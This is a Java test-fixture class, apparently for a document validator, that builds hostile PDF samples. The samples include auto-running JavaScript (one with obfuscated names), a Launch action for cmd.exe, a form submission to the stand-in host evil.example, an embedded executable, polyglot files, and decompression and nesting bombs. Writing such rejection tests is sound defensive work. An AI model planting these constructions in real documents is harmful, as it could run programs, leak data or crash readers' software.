package vn.tdkt.docx;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.US_ASCII;

import java.util.Arrays;
import java.util.List;
import vn.tdkt.docx.HostileFiles.Hostile;
import vn.tdkt.docx.HostileFiles.Maker;

/** PDFs that run, fetch, hide or swell. */
final class HostilePdfs {

    private static final int NEARLY_25_MB = 25_900_000;

    private HostilePdfs() {}

    static List<Hostile> all() {
        return List.of(
                pdf(
                        "PDF with JavaScript",
                        "JavaScript",
                        () -> PdfFiles.with("/OpenAction 4 0 R", "<</S/JavaScript/JS(app.alert\\(1\\))>>")),
                pdf(
                        "JavaScript written with number signs",
                        "JavaScript",
                        () -> PdfFiles.with("/OpenAction 4 0 R", "<</S/J#61vaScr#69pt/J#53(app.alert\\(1\\))>>")),
                pdf(
                        "JavaScript in a folded object",
                        "JavaScript",
                        () -> PdfFiles.folded("/OpenAction<</S/JavaScript/JS(x)>>", new byte[0])),
                pdf(
                        "script whose kind is left out",
                        "JavaScript",
                        () -> PdfFiles.folded("/AA<</WC<</JS(x)>>>>", new byte[0])),
                pdf(
                        "PDF that starts a program",
                        "mở chương trình",
                        () -> PdfFiles.with("/OpenAction<</S/Launch/Win<</F(cmd.exe)>>>>")),
                pdf(
                        "PDF that sends a form",
                        "gửi hoặc nhận",
                        () -> PdfFiles.with("/OpenAction<</S/SubmitForm/F(http://evil.example)>>")),
                pdf(
                        "PDF with a file inside",
                        "đính kèm",
                        () -> PdfFiles.with(
                                "/Names<</EmbeddedFiles<</Names[(a.exe)4 0 R]>>>>",
                                "<</F(a.exe)/EF<</F 5 0 R>>>>",
                                PdfFiles.stream("/Type/EmbeddedFile", "MZ".getBytes(US_ASCII)))),
                pdf(
                        "file inside, its stream without a type",
                        "đính kèm",
                        () -> PdfFiles.with(
                                "/Names<</EmbeddedFiles<</Names[(a.exe)4 0 R]>>>>",
                                "<</F(a.exe)/EF<</F 5 0 R>>>>",
                                PdfFiles.stream("", "MZ".getBytes(US_ASCII)))),
                pdf(
                        "XFA form",
                        "XFA",
                        () -> PdfFiles.with("/AcroForm<</XFA 4 0 R>>", PdfFiles.stream("", new byte[1]))),
                pdf("PDF with a password", "mật khẩu", HostilePdfs::locked),
                pdf("PDF cut off", "hỏng", () -> Arrays.copyOf(PdfFiles.blank(), PdfFiles.blank().length / 2)),
                pdf("PDF of two lines", "hỏng", () -> "%PDF-1.7\n%%EOF\n".getBytes(US_ASCII)),
                pdf(
                        "PDF without a catalogue",
                        "hỏng",
                        () -> "%PDF-1.7\nxref\n0 0\ntrailer\n<<>>\nstartxref\n9\n%%EOF".getBytes(US_ASCII)),
                pdf("PDF without pages", "hỏng", HostilePdfs::pageless),
                pdf("program before the PDF", "phần lạ", () -> around("MZ ", PdfFiles.blank(), new byte[0])),
                pdf("PDF with a zip behind it", "tệp nén", () -> around("", PdfFiles.blank(), joinedZip())),
                pdf(
                        "object stream that unfolds to 200 MB",
                        "phình ra",
                        () -> PdfFiles.folded("", new byte[200_000_000])),
                pdf(
                        "object stream full of empty lists",
                        "quá nhiều thành phần",
                        () -> PdfFiles.folded("", "[]".repeat(3_000_000).getBytes(US_ASCII))),
                pdf(
                        "25 MB of empty lists",
                        "quá nhiều thành phần",
                        () -> PdfFiles.with("/A 4 0 R", "[" + "[]".repeat(NEARLY_25_MB / 2) + "]")),
                pdf("25 MB of names", "quá nhiều thành phần", HostilePdfs::names),
                pdf(
                        "25 MB of nested lists",
                        "quá nhiều thành phần",
                        () -> PdfFiles.with("/A 4 0 R", "[".repeat(NEARLY_25_MB))),
                pdf(
                        "lists nested 100,000 deep",
                        "quá sâu",
                        () -> PdfFiles.with("/OpenAction 4 0 R", "[".repeat(100_000) + "]".repeat(100_000))),
                pdf("table of objects without width", "cấu trúc lạ", () -> table("/W[0 0 0]/Index[0 2147483647]")),
                pdf(
                        "table with rows of a gigabyte",
                        "cấu trúc lạ",
                        () -> table("/W[1 2 1]/DecodeParms<</Predictor 12/Columns 2000000000>>")));
    }

    private static Hostile pdf(String attack, String word, Maker maker) {
        return new Hostile(attack, "Văn bản đã ký.pdf", word, maker);
    }

    private static byte[] locked() {
        String plain = new String(PdfFiles.with("", "<</Filter/Standard/V 1/R 2/O(x)/U(y)/P -4>>"), ISO_8859_1);
        return plain.replace("trailer\n<<", "trailer\n<</Encrypt 4 0 R").getBytes(ISO_8859_1);
    }

    private static byte[] pageless() {
        String plain = new String(PdfFiles.blank(), ISO_8859_1);
        return plain.replace("/Kids[3 0 R]/Count 1", "/Kids[     ]/Count 0").getBytes(ISO_8859_1);
    }

    private static byte[] names() {
        StringBuilder names = new StringBuilder("[");
        for (int i = 0; names.length() < NEARLY_25_MB; i++) {
            names.append('/').append(Integer.toString(i, 36));
        }
        return PdfFiles.with("/A 4 0 R", names.append(']').toString());
    }

    private static byte[] table(String how) {
        String plain = new String(PdfFiles.folded("", new byte[0]), ISO_8859_1);
        return plain.replace("/W[1 2 1]", how).getBytes(ISO_8859_1);
    }

    private static byte[] joinedZip() {
        return around("", WordFiles.word("<w:p/>"), "\nstartxref\n0\n%%EOF\n".getBytes(US_ASCII));
    }

    private static byte[] around(String before, byte[] file, byte[] after) {
        byte[] start = before.getBytes(US_ASCII);
        byte[] all = Arrays.copyOf(start, start.length + file.length + after.length);
        System.arraycopy(file, 0, all, start.length, file.length);
        System.arraycopy(after, 0, all, start.length + file.length, after.length);
        return all;
    }
}
